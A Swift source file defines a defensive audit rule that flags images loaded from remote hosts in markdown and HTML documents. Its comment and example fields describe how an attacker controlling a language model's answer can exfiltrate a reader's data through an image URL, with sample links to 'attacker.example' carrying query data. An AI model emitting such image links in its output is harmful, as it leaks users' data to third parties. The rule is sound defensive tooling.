import LegibleAccessibility

/// `image-remote`: an image loaded from another host.
///
/// A viewer that shows the image contacts its host when the document is read, telling it that
/// it was read, when, and from where, and whatever the image's URL carries: an attacker who
/// writes a language model's answer leaks a reader's data this way
/// (`![](https://attacker.example/log?q=…)`). Legible's views and pages wait for the reader to
/// ask (`ImagePolicy.ask`); other viewers load it at once. A note: a document meant for the web
/// uses remote images honestly.
struct ImageRemote: AuditRule {
    let info = AuditRuleInfo(
        id: "image-remote",
        title: "Image from another host",
        rationale: "A remote image makes the viewer contact its host when the document is read: the host learns that it was read, and anything the image's address carries. In a language model's answer an attacker can use this to take a reader's data.",
        wcag: [],
        defaultSeverity: .note,
        example: "![chart](https://attacker.example/chart.png?q=secret)",
        fixedExample: "![chart](chart.png)"
    )

    func check(_ document: AuditedDocument, _ findings: inout FindingCollector) {
        for element in document.elements(.image) {
            guard let source = element.image?.source, let node = element.node,
                  case .ask(_, let host) = ImagePolicy.ask.decision(for: source) else { continue }
            findings.report(node, "This image is loaded from \(host.quotedExcerpt()), which learns when the document is read.",
                            fix: "Keep the image beside the document (a relative path) or in it (a data: URL), or allow its host in the viewer.")
        }
        for image in document.htmlImages {
            guard let source = image.attributes["src"], case .ask(_, let host) = ImagePolicy.ask.decision(for: source) else { continue }
            findings.report(image.sourceOffsets, "This <img> is loaded from \(host.quotedExcerpt()), which learns when the document is read.",
                            fix: "Keep the image beside the document (a relative path) or in it (a data: URL), or allow its host in the viewer.")
        }
    }
}
